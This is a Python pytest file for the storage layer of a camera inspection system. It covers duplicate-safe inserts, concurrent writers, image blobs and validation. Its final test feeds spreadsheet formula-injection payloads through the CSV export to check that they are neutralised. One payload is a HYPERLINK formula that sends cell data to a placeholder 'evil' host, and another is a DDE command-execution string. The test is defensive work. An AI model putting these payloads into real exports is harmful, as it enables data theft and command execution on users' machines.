"""Idempotent storage of detector results (both dialects)."""

from __future__ import annotations

import hashlib
import threading
from datetime import timezone

import pytest
from sqlalchemy import func, select

from storage.models import Camera, Image, Inspection, Line
from storage.results import InvalidResult, store_results, validate_result

from .helpers import T0, make_result, png


def _count(db, model=Inspection) -> int:
    with db.engine.connect() as c:
        return c.scalar(select(func.count()).select_from(model))


def test_replayed_results_never_make_a_second_row(storage_db):
    batch = [make_result(i, anomalous=(i % 5 == 0), frame=("sampled" if i % 7 == 3 else None)) for i in range(30)]
    out = store_results(storage_db.engine, storage_db.blobs, batch)
    assert (out.inserted, out.duplicates) == (30, 0)
    images_before = _count(storage_db, Image)
    # the same batch again, a partly overlapping one, and duplicates inside one batch
    out = store_results(storage_db.engine, storage_db.blobs, batch)
    assert (out.inserted, out.duplicates) == (0, 30)
    more = batch[20:] + [make_result(i) for i in range(30, 40)] + [make_result(35)]
    out = store_results(storage_db.engine, storage_db.blobs, more)
    assert out.inserted == 10
    assert _count(storage_db) == 40
    assert _count(storage_db, Image) == images_before + 10
    with storage_db.engine.connect() as c:
        assert c.scalar(select(func.count(func.distinct(Inspection.frame_id)))) == 40
        assert c.scalar(select(func.count()).select_from(Line)) == 1
        assert c.scalar(select(func.count()).select_from(Camera)) == 1


def test_racing_writers_store_each_frame_once(storage_db):
    """Two writers with the same batch (a rebalance): ON CONFLICT DO NOTHING keeps one row each."""
    batch = [make_result(i, camera=f"cam-{i % 3}") for i in range(60)]
    errors: list[BaseException] = []
    barrier = threading.Barrier(3)

    def run() -> None:
        try:
            barrier.wait()
            store_results(storage_db.engine, storage_db.blobs, batch)
        except BaseException as exc:  # noqa: BLE001
            errors.append(exc)

    threads = [threading.Thread(target=run) for _ in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert not errors, errors
    assert _count(storage_db) == 60


def test_rows_and_blobs(storage_db):
    r_flag = make_result(1, anomalous=True)
    r_sampled = make_result(2, frame="sampled")
    r_plain = make_result(3)
    store_results(storage_db.engine, storage_db.blobs, [r_flag, r_sampled, r_plain])
    with storage_db.session() as s:
        rows = {i.frame_id: i for i in s.scalars(select(Inspection))}
        flag = rows[r_flag.frame_id]
        assert flag.is_anomalous and flag.frame_reason == "flagged"
        assert flag.captured_at == r_flag.captured_at and flag.captured_at.tzinfo is not None
        assert flag.captured_at.utcoffset() == timezone.utc.utcoffset(None)
        assert flag.inferred_at == r_flag.inferred_at
        assert flag.stored_at >= flag.inferred_at
        assert flag.score == pytest.approx(r_flag.score) and flag.threshold == 0.5
        assert (flag.line_id, flag.camera_id, flag.station, flag.part_id, flag.product, flag.model_version) == \
            ("line-1", "cam-1", "st-1", "part-1", "bottle", "m-1")
        assert flag.frame_image.kind == "flagged_frame" and flag.frame_image.content_type == "image/jpeg"
        assert rows[r_sampled.frame_id].frame_image.kind == "sampled_normal"
        assert rows[r_sampled.frame_id].frame_reason == "sampled"
        assert rows[r_plain.frame_id].frame_image is None and rows[r_plain.frame_id].frame_reason is None
        for insp, res in ((flag, r_flag), (rows[r_plain.frame_id], r_plain)):
            heat = insp.heatmap_image
            assert heat.kind == "heatmap" and (heat.width, heat.height) == (16, 12)
            data = storage_db.blobs.get(heat.blob_key)
            assert data == res.heatmap_png
            assert heat.sha256 == hashlib.sha256(data).hexdigest() and heat.size_bytes == len(data)
        assert storage_db.blobs.get(flag.frame_image.blob_key) == r_flag.frame_image


@pytest.mark.parametrize(
    "update, reason",
    [
        ({"camera_id": "c" * 101}, "camera_id"),
        ({"frame_id": ""}, "frame_id"),
        ({"score": float("nan")}, "score"),
        ({"threshold": float("inf")}, "threshold"),
        ({"heatmap_png": b"not a png"}, "PNG"),
        ({"frame_image": b"\x89PNG\r\n\x1a\nxx", "frame_content_type": "image/jpeg", "frame_reason": "flagged"},
         "image/jpeg"),
        ({"frame_image": png(), "frame_content_type": None}, "frame_content_type"),
    ],
)
def test_validate_result_rejects(update, reason):
    r = make_result(1).model_copy(update=update)
    with pytest.raises(InvalidResult, match=reason):
        validate_result(r)
    validate_result(make_result(1))


def test_insert_ignore_counts_only_new_rows(storage_db):
    from storage.db import insert_ignore, write_session
    from storage.models import Line

    rows = [{"id": f"l{i}", "name": None, "created_at": T0} for i in range(5)]
    with write_session(storage_db.engine) as s:
        assert insert_ignore(s, Line.__table__, rows[:3], ["id"]) == 3
        assert insert_ignore(s, Line.__table__, rows, ["id"]) == 2
        assert insert_ignore(s, Line.__table__, rows, ["id"]) == 0
        assert insert_ignore(s, Line.__table__, [], ["id"]) == 0
    assert _count(storage_db, Line) == 5


def test_history_csv_cells_never_start_a_spreadsheet_formula(sqlite_db):
    """Text a producer controls (the model version) cannot run as a formula in a spreadsheet; numbers keep
    their sign.  Ids cannot start with a formula character at all (the frame schema)."""
    import csv
    import io

    from storage.queries.common import csv_text
    from storage.queries.history import CSV_COLUMNS, HistoryFilter, history_csv

    versions = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "m-1"]
    results = [make_result(i, model_version=v) for i, v in enumerate(versions)]
    store_results(sqlite_db.engine, sqlite_db.blobs, results)
    with sqlite_db.session() as s:
        rows = list(csv.DictReader(io.StringIO(history_csv(s, HistoryFilter()).decode())))
    assert list(rows[0]) == list(CSV_COLUMNS)
    got = {r["frame_id"]: r["model_version"] for r in rows}
    assert got == {r.frame_id: ("'" + v if v[0] in "=+-@" else v) for r, v in zip(results, versions)}
    assert all(not r["score"].startswith("'") for r in rows)
    assert csv_text("\tx") == "'\tx" and csv_text("cam-1") == "cam-1"
